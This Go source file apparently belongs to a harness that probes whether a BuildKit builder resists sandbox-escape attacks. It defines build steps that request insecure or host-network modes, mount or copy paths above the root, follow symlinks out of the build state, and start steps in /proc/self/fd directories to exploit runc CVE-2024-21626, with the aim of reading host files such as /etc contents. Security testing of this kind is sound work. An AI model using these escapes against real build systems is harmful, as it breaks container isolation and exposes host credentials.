package main

import (
	"context"
	"fmt"

	"github.com/moby/buildkit/client/llb"
	"github.com/moby/buildkit/solver/pb"
)

// look prints a text if the working directory, or one above it, is the builder's root or its /etc.
const look = `for up in . .. ../.. ../../.. ../../../.. ../../../../.. ../../../../../..; do for file in ` + stolen + ` subuid; do [ ! -e $up/$file ] || echo escaped; done; done`

// firstDescriptor and lastDescriptor are those that runc has had open when a step started.
const (
	firstDescriptor = 3
	lastDescriptor  = 12
)

// steps are attacks by build steps that no Dockerfile can describe.
func steps() []attack {
	return []attack{
		{"allowed_step", func(ctx context.Context, b *bridge) error { return b.prints(ctx, "uid=0", "id") }},
		{"insecure_step", func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "", "true", llb.Security(pb.SecurityMode_INSECURE))
		}},
		{"unknown_mode_step", func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "", "true", llb.Security(unknownMode))
		}},
		{"host_network_step", func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "", "true", llb.Network(pb.NetMode_HOST))
		}},
		{"device", func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "", "true", llb.AddCDIDevice(llb.CDIDeviceName("vendor.example/device=all")))
		}},
		{"mount_outside", func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "escaped", "cd /m && "+look, llb.AddMount("/m", b.shell, llb.SourcePath(climb+"etc")))
		}},
		{"cache_mount_outside", func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "escaped", "cd /m && "+look, llb.AddMount("/m", llb.Scratch(), llb.AsPersistentCacheDir(climb+"etc", llb.CacheMountShared)))
		}},
		{"copy_outside", func(ctx context.Context, b *bridge) error {
			return readable(ctx, b, llb.Scratch().File(llb.Copy(b.shell, climb+stolen, "/copy")), "/copy")
		}},
		{"copy_through_link", func(ctx context.Context, b *bridge) error {
			return readable(ctx, b, llb.Scratch().File(llb.Copy(linked(b), "/link/"+stolen, "/copy")), "/copy")
		}},
		{"read_through_link", func(ctx context.Context, b *bridge) error {
			return readable(ctx, b, linked(b), "/link/"+stolen, climb+stolen)
		}},
	}
}

// linked has a link to the root directory that climbs out of the state's own.
func linked(b *bridge) llb.State {
	return b.shell.Run(llb.Args([]string{"ln", "-s", climb, "/link"})).Root()
}

// descriptors begin a step in a directory that runc may have open: CVE-2024-21626.
func descriptors() []attack {
	var found []attack
	for fd := firstDescriptor; fd <= lastDescriptor; fd++ {
		found = append(found, attack{fmt.Sprintf("descriptor_%d", fd), func(ctx context.Context, b *bridge) error {
			return b.prints(ctx, "escaped", look, llb.Dir(fmt.Sprintf("/proc/self/fd/%d", fd)))
		}})
	}
	return found
}
